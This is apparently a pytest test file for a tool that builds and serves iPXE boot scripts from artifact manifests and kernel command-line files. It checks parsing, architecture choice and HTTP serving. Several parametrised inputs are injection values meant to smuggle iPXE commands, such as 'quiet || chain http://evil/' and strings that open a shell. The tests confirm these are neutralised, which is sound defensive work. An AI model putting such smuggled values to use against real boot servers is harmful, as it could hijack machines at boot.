"""The iPXE scripts, held against what iPXE documents (ipxe.org/scripting, ipxe.org/cmd) of how it reads a line."""

import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path

import aiohttp
import pytest

from plasm_dht import Identity
from plasm_dht.provider.artifacts import ArtifactScanner
from plasm_dht.provider.ipxe import (
    ARCHITECTURES,
    MAX_CMDLINE,
    boot_script,
    choice_script,
    choose_channel,
    read_cmdline,
)
from plasm_dht.provider.manifest import build_manifest
from plasm_dht.provider.site import Page, Site
from plasm_dht.provider.web import create_app, serve

# The commands that we use: the least and most arguments of each, and its options, with (True) or without a value.
COMMANDS: dict[str, tuple[int, int | None, dict[str, bool]]] = {
    "boot": (0, None, {"--name": True, "--timeout": True, "--autofree": False, "--replace": False}),
    "chain": (0, None, {"--name": True, "--timeout": True, "--autofree": False, "--replace": False}),
    "cpuid": (1, 1, {"--ext": False, "--ecx": False}),
    "echo": (0, None, {"-n": False}),
    "exit": (0, 1, {}),
    "goto": (1, 1, {}),
    "initrd": (1, None, {"--name": True, "--timeout": True}),
    "iseq": (2, 2, {}),
    "kernel": (1, None, {"--name": True, "--timeout": True}),
    "prompt": (0, None, {"--key": True, "--timeout": True}),
    "set": (1, None, {}),
}
FALLIBLE = ("iseq", "cpuid", "kernel", "initrd", "chain", "boot", "prompt")
BUILDARCH = {"i386", "x86_64", "arm32", "arm64"}
WHITE = " \t\n\v\f\r"
TARGET = "stable/arm64"


@dataclass
class Script:
    """A script as iPXE splits it: per line the commands with their arguments, each with what follows it."""

    lines: list[list[tuple[list[str], str]]] = field(default_factory=list)
    labels: list[str] = field(default_factory=list)

    @property
    def commands(self) -> list[list[str]]:
        return [words for line in self.lines for words, _ in line if words]

    def named(self, name: str) -> list[list[str]]:
        return [words[1:] for words in self.commands if words[0] == name]


def parse(text: str) -> Script:
    """Split it as iPXE does: at white space, no quotes, `\\` at the end of a line goes on, `:` starts a label."""
    assert re.match(r"#!ipxe\s", text), "a script starts with its magic line"
    assert text.endswith("\n")
    script = Script()
    for line in re.sub(r"\\\r?\n", "", text).split("\n"):
        words = [word for word in re.split(f"[{WHITE}]+", line) if word]
        if words and words[0].startswith(":"):
            script.labels.append(words.pop(0)[1:])
        commands: list[tuple[list[str], str]] = [([], "")]
        for word in words:
            if word.startswith("#"):
                break
            if word in ("||", "&&", ";"):
                commands[-1] = (commands[-1][0], word)
                commands.append(([], ""))
            else:
                commands[-1][0].append(word)
        script.lines.append(commands)
    return script


def check(text: str) -> Script:
    """Everything that can be wrong with a script that iPXE would only tell at the console of a machine."""
    script = parse(text)
    assert len(set(script.labels)) == len(script.labels)
    for words in script.commands:
        assert words[0] in COMMANDS, f"there is no command {words[0]!r}"
        least, most, options = COMMANDS[words[0]]
        rest = words[1:]
        while rest and rest[0].startswith("-") and options:
            assert rest[0] in options, words
            rest = rest[2 if options[rest[0]] else 1 :]
        assert least <= len(rest) <= (len(rest) if most is None else most), words
    for (label,) in script.named("goto"):
        assert label in script.labels, f"goto {label}: there is no such label"
    for line in script.lines:
        # A command that fails ends the whole script, unless the line says with || what to do then.
        can_fail = any(words and words[0] in FALLIBLE for words, _ in line)
        if can_fail:
            assert line[-2][1] == "||", f"the failure of {line} ends the script"
    return script


def manifest(**urls: str) -> bytes:
    return json.dumps({"artifacts": {role: {"urls": [url]} for role, url in urls.items()}}).encode()


BOTH = manifest(kernel="http://h/stable/arm64/vmlinuz", initramfs="http://h/stable/arm64/initrd%20a.img")


def kernel_words(script: Script) -> list[str]:
    (words,) = script.named("kernel")
    return words


def expanded(script: Script) -> str:
    """The command line that the kernel gets."""
    settings = {}
    for name, code in script.named("set"):
        key, _, kind = name.partition(":")
        assert kind == "hex"
        settings[key] = bytes.fromhex(code.replace(":", "")).decode()
    line = " ".join(kernel_words(script)[1:])
    return re.sub(r"\$\{(\w+):string\}", lambda match: settings[match[1]], line)


def test_a_script_loads_the_kernel_and_the_initramfs_of_the_manifest_and_boots() -> None:
    script = check(boot_script(TARGET, "2026.1", BOTH, ["console=ttyS0", "quiet"]))
    assert kernel_words(script) == ["http://h/stable/arm64/vmlinuz", "initrd=initramfs", "console=ttyS0", "quiet"]
    assert script.named("initrd") == [["--name", "initramfs", "http://h/stable/arm64/initrd%20a.img"]]
    names = [words[0] for words in script.commands]
    assert names.index("kernel") < names.index("initrd") < names.index("boot")


def test_without_an_initramfs_there_is_none_and_without_a_kernel_no_script() -> None:
    script = check(boot_script(TARGET, "1", manifest(kernel="http://h/k")))
    assert kernel_words(script) == ["http://h/k"]
    assert script.named("initrd") == []
    with pytest.raises(ValueError, match="no kernel"):
        boot_script(TARGET, "1", manifest(initramfs="http://h/i"))


@pytest.mark.parametrize(
    "data",
    [
        b"quiet\nchain http://evil/\n",
        b"quiet || chain http://evil/",
        b"quiet && chain http://evil/",
        b"quiet ; chain http://evil/",
        b"a\r\n:failed\r\nshell\r\n",
        b"a \\\nshell",
        b"quiet \\",
        b"a\x0bshell\x0cexit",
        b"# everything after this",
        b"a #b ## c",
        b'dyndbg="file a.c +p ; file b.c +p"',
    ],
)
def test_nothing_in_a_cmdline_is_a_command(data: bytes) -> None:
    words = read_cmdline(data)
    plain = check(boot_script(TARGET, "1", BOTH))
    script = check(boot_script(TARGET, "1", BOTH, words))
    assert [each[0] for each in script.commands if each[0] != "set"] == [each[0] for each in plain.commands]
    assert script.labels == plain.labels
    assert expanded(script) == " ".join(["initrd=initramfs", *words])  # and the kernel gets what the file says


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"a\x00b", "control character"),
        (b"a\x1bb", "control character"),
        ("a é".encode(), "not ASCII"),
        ("a\u2028shell".encode(), "not ASCII"),
        (b"a " * MAX_CMDLINE, "at most"),
    ],
)
def test_what_no_kernel_takes_is_refused(data: bytes, reason: str) -> None:
    with pytest.raises(ValueError, match=reason):
        read_cmdline(data)


def test_lines_of_a_cmdline_are_one_and_an_empty_one_is_none() -> None:
    assert read_cmdline(b" quiet\n\nroot=live:x\t splash \n") == ["quiet", "root=live:x", "splash"]
    assert read_cmdline(b"\n") == []


@pytest.mark.parametrize("version", ["1\nshell", "1 || shell", "${password}", "1 ; shell", "#1", "é\u2028x"])
def test_a_version_is_only_ever_printed(version: str) -> None:
    script = check(boot_script(TARGET, version, BOTH))
    assert [words[0] for words in script.commands] == [
        words[0] for words in check(boot_script(TARGET, "1", BOTH)).commands
    ]
    assert "${" not in " ".join(script.named("echo")[0])


# Choosing


class Client:
    """Runs a choice as a client of an architecture does, as far as the command that ends it."""

    def __init__(self, buildarch: str, platform: str = "efi", *, long_mode: bool = False) -> None:
        self.settings = {"${buildarch}": buildarch, "${platform}": platform}
        self.long_mode = long_mode

    def run(self, text: str) -> str:
        lines = text.split("\n")
        at = 0
        while at < len(lines):
            line, at = lines[at], at + 1
            went: bool | str = True
            after = ""
            for words, follows in parse(f"#!ipxe\n{line}\n").lines[1]:
                if after in ("", ";") or (after == "&&" and went) or (after == "||" and not went):
                    went = self._do(words)
                if isinstance(went, str):
                    break
                after = follows
            if isinstance(went, str):
                if not went.startswith(":"):
                    return went
                at = lines.index(went)
            elif not went:
                return "ended by a failure"
        return "end"

    def _do(self, words: list[str]) -> bool | str:
        words = [self.settings.get(word, word) for word in words]
        match words:
            case ["iseq", one, other]:
                return one == other
            case ["cpuid", "--ext", "29"]:
                return self.long_mode
            case ["goto", label]:
                return f":{label}"
            case ["chain", *_, url]:
                return url
            case ["exit", _]:
                return "exit"
        return True


@pytest.mark.parametrize(
    ("client", "served", "gets"),
    [
        (Client("arm64"), ["amd64", "arm64"], "arm64"),
        (Client("arm64"), ["aarch64"], "aarch64"),
        (Client("x86_64"), ["amd64", "arm64"], "amd64"),
        (Client("x86_64"), ["x86_64"], "x86_64"),
        (Client("x86_64"), ["x86_64", "amd64"], "amd64"),
        (Client("arm32"), ["armhf", "arm64"], "armhf"),
        (Client("i386"), ["i386", "amd64"], "i386"),
        (Client("i386", "pcbios"), ["i386", "amd64"], "i386"),
        (Client("i386", "pcbios", long_mode=True), ["i386", "amd64"], "amd64"),
        (Client("i386", "pcbios", long_mode=True), ["i686"], "i686"),
        (Client("i386", "efi", long_mode=True), ["i386", "amd64"], "i386"),
        (Client("i386", "pcbios"), ["amd64"], None),
        (Client("riscv64"), ["amd64", "arm64"], None),
    ],
)
def test_a_client_gets_the_script_of_its_architecture(client: Client, served: list[str], gets: str | None) -> None:
    script = choice_script("stable", served)
    check(script)
    assert client.run(script) == (f"stable/{gets}/boot.ipxe" if gets else "exit")


def test_every_architecture_that_ipxe_documents_is_known_by_one_name_at_least() -> None:
    assert ARCHITECTURES.keys() >= BUILDARCH
    names = [name for names in ARCHITECTURES.values() for name in names]
    assert len(set(names)) == len(names)
    check(choice_script("stable", names))
    check(choice_script("stable", ["something-else"]))


@pytest.mark.parametrize(
    ("asked", "targets", "channel"),
    [
        (None, ["stable/arm64", "edge/arm64"], "stable"),
        (None, ["edge/arm64", "edge/amd64"], "edge"),
        ("edge", ["stable/arm64", "edge/arm64"], "edge"),
    ],
)
def test_the_channel_is_the_one_asked_for_or_stable_or_the_only_one(
    asked: str | None, targets: list[str], channel: str
) -> None:
    assert choose_channel(asked, targets)[0] == channel


@pytest.mark.parametrize(
    ("asked", "targets", "says"),
    [
        (None, ["edge/arm64", "old/arm64"], "'stable' .*: edge, old"),
        ("x\n:y", ["stable/arm64"], r"'x\\n:y' .*: stable"),
        ("", ["stable/arm64"], "'' .*: stable"),
        (None, [], "none at this moment"),
    ],
)
def test_a_channel_that_is_not_served_is_one_line_that_says_what_is(
    asked: str | None, targets: list[str], says: str
) -> None:
    with pytest.raises(LookupError, match=says) as caught:
        choose_channel(asked, targets)
    assert "\n" not in str(caught.value)


# Over HTTP


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for target in (TARGET, "stable/amd64", "edge/arm64"):
        folder = tmp_path / target
        folder.mkdir(parents=True)
        (folder / "vmlinuz").write_bytes(b"kernel")
        (folder / "initrd.img").write_bytes(b"initrd")
    (tmp_path / TARGET / "cmdline").write_bytes(b"quiet\nroot=live:x || shell\n")
    return tmp_path


def scan(root: Path, site: Site) -> None:
    """Serve what is in the folder now."""
    site.pages = {}
    for target, found in ArtifactScanner(root).scan().found.items():
        document = build_manifest(
            Identity.generate(),
            target=target,
            version=found.version,
            files=found.files,
            base_url="https://cdn.example.net/boot",
            manifest_version=1,
            created_at=1_800_000_000_000,
        )
        site.pages = {**site.pages, target: Page(found, document)}


@pytest.fixture
def site(root: Path) -> Site:
    scan(root, site := Site())
    return site


@pytest.fixture
async def client(site: Site) -> AsyncIterator[aiohttp.ClientSession]:
    runner, port = await serve(create_app(site), "127.0.0.1", 0)
    async with aiohttp.ClientSession(f"http://127.0.0.1:{port}") as session:
        yield session
    await runner.cleanup()


async def read(client: aiohttp.ClientSession, path: str) -> tuple[int, str]:
    async with client.get(path) as response:
        assert response.headers["Content-Type"].startswith(("text/plain", "application/octet-stream"))
        assert response.headers.get("Cache-Control", "no-cache") == "no-cache"
        return response.status, await response.text()


async def test_the_script_of_a_channel_and_architecture_is_made_from_its_manifest_and_cmdline(client):
    status, text = await read(client, f"/{TARGET}/boot.ipxe")
    assert status == 200
    script = check(text)
    assert kernel_words(script)[0] == "https://cdn.example.net/boot/stable/arm64/vmlinuz"
    assert expanded(script) == "initrd=initramfs quiet root=live:x || shell"
    _, text = await read(client, "/stable/amd64/boot.ipxe")
    assert kernel_words(check(text))[1:] == ["initrd=initramfs"]


async def test_a_script_among_the_artifacts_is_served_instead(client, root, site):
    (root / TARGET / "boot.ipxe").write_text("#!ipxe\nshell\n")
    scan(root, site)
    assert await read(client, f"/{TARGET}/boot.ipxe") == (200, "#!ipxe\nshell\n")


async def test_a_cmdline_that_cannot_be_one_is_said_and_not_booted_without(client, root, site):
    (root / TARGET / "cmdline").write_bytes(b"\xff")
    status, text = await read(client, f"/{TARGET}/boot.ipxe")
    assert (status, "has just changed" in text) == (503, True)
    scan(root, site)
    status, text = await read(client, f"/{TARGET}/boot.ipxe")
    assert (status, text) == (
        404,
        "stable/arm64 has no iPXE script: cmdline cannot be a command line: "
        "byte 0 is not ASCII, which is all that every kernel and iPXE take\n",
    )


async def test_without_a_kernel_or_a_target_there_is_no_script(client, root, site):
    (root / TARGET / "vmlinuz").unlink()
    scan(root, site)
    status, text = await read(client, f"/{TARGET}/boot.ipxe")
    assert (status, "it has no kernel" in text) == (404, True)
    assert (await read(client, "/no/such/boot.ipxe"))[0] == 404


async def test_a_client_is_led_to_the_script_of_its_architecture(client, site):
    status, text = await read(client, "/boot.ipxe")
    check(text)
    url = Client("arm64").run(text)
    assert (status, url) == (200, f"{TARGET}/boot.ipxe")
    assert (await read(client, f"/{url}"))[0] == 200
    _, text = await read(client, "/boot.ipxe?channel=edge")
    assert Client("arm64").run(text) == "edge/arm64/boot.ipxe"
    status, text = await read(client, "/boot.ipxe?channel=x%0A:y")
    assert (status, text.count("\n")) == (404, 1)
    site.pages = {}
    assert (await read(client, "/boot.ipxe"))[0] == 404
